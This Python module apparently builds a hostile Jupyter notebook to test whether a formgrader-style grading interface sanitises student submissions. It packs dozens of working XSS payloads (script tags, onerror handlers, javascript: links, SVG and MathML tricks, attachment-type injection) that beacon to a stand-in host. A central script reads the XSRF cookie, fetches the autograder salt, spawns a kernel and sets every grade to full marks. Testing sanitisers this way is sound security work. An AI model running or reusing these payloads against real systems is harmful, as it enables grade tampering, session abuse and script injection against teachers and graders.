"""A submission that attacks whoever opens it: what it puts into its texts, and what each of them does where it runs."""

import base64
import io
from collections.abc import Mapping
from typing import Any

from PIL import Image
from submissions import Notebook, code, right

HOST = "won.invalid"

# Full marks, the salt, a kernel: what a script can do in formgrader, and a request that says so.
SCRIPT = """
(async function(name){
  document.title = 'won ' + name;
  fetch('http://won.invalid/' + name).catch(function(){});
  if (name !== 'script' || !window.submission_id) return;
  var token = (document.cookie.match(/_xsrf=([^;]*)/) || [])[1];
  var send = function(method, url, body){
    return fetch(url, {method: method, body: JSON.stringify(body), headers: {'X-XSRFToken': token}});
  };
  fetch('/api/contents/autograder.salt?content=1');
  send('POST', '/api/kernels', {name: 'python3'});
  var grades = await (await fetch('/formgrader/api/grades?submission_id=' + submission_id)).json();
  for (var grade of grades)
    send('PUT', '/formgrader/api/grade/' + grade.id, Object.assign({}, grade, {manual_score: grade.max_score}));
})('NAME')
""".replace("\n", " ").replace("  ", "")


def _beacon(name: str) -> str:
    """A script short enough for any place, which asks for an address that says what ran."""
    return f"void(new(Image)().src=`http://{HOST}/{name}`)"


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def picture() -> str:
    """A small PNG, in base64."""
    file = io.BytesIO()
    Image.new("RGB", (8, 8), "#1a7f37").save(file, "PNG")
    return base64.b64encode(file.getvalue()).decode()


def _svg(name: str) -> str:
    return f"<svg xmlns='http://www.w3.org/2000/svg' onload='{_beacon(name)}'><script>{_beacon(name)}</script></svg>"


# Run by being shown. NAME stands for the payload's own name, RUN for a script that says that it ran.
SHOWN: Mapping[str, str] = {
    "script": "A note.\n\n<script>WHOLE</script>",
    "script-upper": "<ScRiPt >RUN</sCrIpT >",
    "script-in-a-list": "- one\n- two <img src=x onerror='RUN'>",
    "script-in-a-quote": "> said\n> <script>RUN</script>",
    "script-in-a-table": "| a |\n|---|\n| <img src=x onerror='RUN'> |",
    "script-in-a-heading": "## Title <img src=x onerror='RUN'>",
    "script-in-emphasis": "**bold <img src=x onerror='RUN'>**",
    "script-in-a-link": "[text <img src=x onerror='RUN'>](https://example.org)",
    "script-behind-math": "$x$ <img src=x onerror='RUN'> $y$",
    "script-behind-code": "`code` <img src=x onerror='RUN'> `` ` ``",
    "unclosed-fence-in-a-list": "- a\n\n```\nno\n```\n\n<img src=x onerror='RUN'>",
    "error": "<img src=x onerror='RUN'>",
    "error-with-slashes": "<p>\n<img/src=x/onerror='RUN'>\n</p>",
    "error-without-an-end": "<p><img src=x onerror='RUN' ",
    "error-over-lines": "<div>\n<img\nsrc=x\nonerror='RUN'\n>\n</div>",
    "error-with-entities": "<img src=x onerror='&#118;oid(new(Image)().src=`http://won.invalid/NAME`)'>",
    "svg": "<svg onload='RUN'></svg>",
    "svg-in-math": "<math><mtext><table><mglyph><style><img src=x onerror='RUN'></style></mglyph></table></mtext>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=\"RUN\">'></noscript>",
    "details": "<details open ontoggle='RUN'>x</details>",
    "video": "<video><source onerror='RUN'></video>",
    "audio": "<audio src=x onerror='RUN'></audio>",
    "body": "<body onload='RUN'>",
    "input": "<input autofocus onfocus='RUN'>",
    "frame": "<iframe srcdoc=\"<img src=x onerror='RUN'>\"></iframe>",
    "frame-javascript": '<iframe src="javascript:RUN"></iframe>',
    "object": f"<object data=\"data:text/html,<img src='http://{HOST}/NAME'>\"></object>",
    "foreign-frame": f"<iframe src='http://{HOST}/NAME'></iframe>",
    "animation": "<style>@keyframes k{from{color:red}}</style><b style='animation:k 1s' onanimationstart='RUN'>x</b>",
    "style-address": f'<div style="background:url(http://{HOST}/NAME)">x</div>',
    "style-sheet": f"<style>@import 'http://{HOST}/NAME';</style>",
    "link-sheet": f"<link rel=stylesheet href='http://{HOST}/NAME'>",
    "foreign-image": f"![tracked](http://{HOST}/NAME)",
    "foreign-image-by-reference": f"![tracked][ref]\n\n[ref]: http://{HOST}/NAME",
    "foreign-image-as-html": f"<img src='http://{HOST}/NAME'>",
    "foreign-image-set": f"<img srcset='http://{HOST}/NAME 2x'>",
    "mermaid": "```mermaid\n</pre><img src=x onerror='RUN'>\n```",
    "code-behind-a-comment": "<!-- --!><img src=x onerror='RUN'> -->",
    "conditional-comment": "<!--><img src=x onerror='RUN'>-->",
    "processing": "<?xml ><img src=x onerror='RUN'> ?>",
    "declaration": "<!X ><img src=x onerror='RUN'>",
    "title-of-a-link": "<a title=\"</a><img src=x onerror='RUN'>\" href=x><img src=x onerror='RUN'></a>",
    "score-field": "<input class='score' id='test_encoder' value='2'><img src=x onerror='RUN'>",
    "out-of-the-cell": "</div></div></div></div><img src=x onerror='RUN'>",
}

# Run by a click.
CLICKED: Mapping[str, str] = {
    "javascript": "[click](javascript:RUN)",
    "javascript-upper": "[click](JaVaScRiPt:RUN)",
    "javascript-entity": "[click](java&#115;cript:RUN)",
    "javascript-tab": "<a href='java\tscript:RUN'>click</a>",
    "javascript-newline": "<a href='java&#10;script:RUN'>click</a>",
    "javascript-blank": "<a href=' &#1; javascript:RUN'>click</a>",
    "javascript-by-reference": "[click][evil]\n\n[evil]: <javascript:RUN>",
    "javascript-autolink": "<javascript:RUN>",
    "javascript-files": "[click](files/javascript:RUN)",
    "javascript-double": "<a href='javascript:RUN' href='https://example.org'>click</a>",
    "javascript-in-svg": "<svg><a xlink:href='javascript:RUN'><text y=20>click</text></a></svg>",
    "javascript-area": "<map name=m><area shape=default href='javascript:RUN'></map><img usemap='#m' src=x>",
    "javascript-in-a-form": "<form action='javascript:RUN'><button>click</button></form>",
    "data": f"[click](data:text/html;base64,{_base64('<script>alert(1)</script>')})",
    "vbscript": "[click](vbscript:RUN)",
    "file-beside": "[click](evil.html)",
    "file-as-html": "<a href=evil.html>click</a>",
    "formgrader": "[click](http://localhost:8888/formgrader/?path=/tmp)",
    "encoded-formgrader": "[click](http://localhost:8888/%66ormgrader/?path=/tmp)",
}

# Would break the page, so that nothing else could be tried beside them without the wall.
BREAKING: Mapping[str, str] = {
    "refresh": f"<meta http-equiv=refresh content='0;url=http://{HOST}/NAME'>",
    "base": f"<base href='http://{HOST}/'>",
    "missing-attachment": "![gone](attachment:gone.png)",
    "overlay": "<div style='position:fixed;inset:0;z-index:9999;background:white'>Full marks</div>",
    "hidden-page": "<style>body{display:none}</style>",
    "textarea": "<textarea>",
    "comment": "<!-- ",
    "plaintext": "<plaintext>",
    "title": "<title>won NAME</title>",
    "heading-of-a-score": "# test_encoder",
    "math-link": r"$\href{javascript:RUN}{x}$ and $\unicode{x}$ \begin{align}\require{html}\style{x}{y}\end{align}",
    "math-by-entities": r"&#36;\href{javascript:RUN}{x}&#36;",
    "math-all-entities": "<div>&#36;&#92;href{javascript:alert(1)}{x}&#36;</div>",
    "pasted-svg": f"![x](data:image/svg+xml;base64,{_base64('<svg/>')})",
    "pasted-svg-as-png": f"![x](data:image/png;base64,{_base64('<svg/>')})",
    "unclosed": "<details><summary>all that follows</summary>",
    "closed-twice": "<b>x</b></b>",
    "field": "<input>",
    "class": '<b class="score tabbable">2</b>',
    "colour": '<font color="url(x)">x</font>',
}

ATTACHED: Mapping[str, Any] = {
    "attached-svg": {"image/svg+xml": _base64(_svg("attached-svg"))},
    "attached-svg-as-png": {"image/png": _base64(_svg("attached-svg-as-png"))},
    "attached-html": {"text/html": _base64("<script>1</script>")},
    "attached-quote": {f'image/png" onerror="{_beacon("attached-quote")}': "AAAA"},
    "attached-quote-in-data": {"image/png": f'AAAA" onerror="{_beacon("attached-quote-in-data")}'},
}

HONEST = "Honest: **bold**, H<sub>2</sub>O, `<script>` in code, a < b, [a link](https://example.org)."


def filled(name: str, text: str) -> str:
    """A payload with its scripts."""
    return text.replace("WHOLE", SCRIPT).replace("RUN", _beacon(name)).replace("NAME", name)


def hostile(payloads: Mapping[str, str]) -> Notebook:
    """A right submission with payloads in every place that a student can write to."""
    notebook = right()
    texts = [prose(name, filled(name, text)) for name, text in payloads.items()]
    for name, kinds in ATTACHED.items():
        texts.append({**prose(name, f"![{name}](attachment:{name})"), "attachments": {name: kinds}})
    texts.append(
        {**prose("honest", f"{HONEST} ![green](attachment:a.png)"), "attachments": {"a.png": {"image/png": picture()}}}
    )
    raw = {
        "cell_type": "raw",
        "id": "raw",
        "metadata": {"raw_mimetype": "text/html"},
        "source": filled("raw", SHOWN["error"]),
    }
    notebook["cells"] += [*texts, raw, _with_outputs()]
    answer = next(cell for cell in notebook["cells"] if cell["id"] == "notice-vae")
    answer["source"] = filled("released-text", "I see <img src=x onerror='RUN'>")
    for cell in notebook["cells"]:
        cell["metadata"] |= {
            "tags": ['"><script>' + _beacon("tag") + "</script>"],
            "name": "<script>" + _beacon("name"),
        }
    lexer = "\"><img src=x onerror='" + _beacon("lexer") + "'>"
    notebook["metadata"] = {
        "title": "</title><script>" + _beacon("title") + "</script>",
        "kernelspec": {"name": "evil", "language": lexer, "display_name": lexer},
        "language_info": {"name": lexer, "pygments_lexer": lexer},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"x": "</script><script>" + _beacon("widget")}},
    }
    return notebook


def prose(name: str, text: str) -> Notebook:
    """A Markdown cell."""
    return {"cell_type": "markdown", "id": name, "metadata": {}, "source": text}


def _with_outputs() -> Notebook:
    """A cell whose source and outputs are hostile."""
    cell = code(f"%%html\n<script>{_beacon('magic')}</script>\n# \x1b]8;;javascript:x\x1b\\link")
    kinds = {
        "text/html": f"<script>{_beacon('output-html')}</script>",
        "text/markdown": f"<img src=x onerror='{_beacon('output-markdown')}'>",
        "image/svg+xml": _svg("output-svg"),
        "application/javascript": _beacon("output-javascript"),
        "text/latex": r"\href{javascript:1}{x}",
    }
    shown = [{"output_type": "display_data", "data": {kind: data}, "metadata": {}} for kind, data in kinds.items()]
    said = {
        "output_type": "stream",
        "name": "stdout",
        "text": f"\x1b]8;;javascript:{_beacon('ansi')}\x1b\\click\x1b]8;;\x1b\\<b>",
    }
    cell["outputs"] = [*shown, said]
    return cell
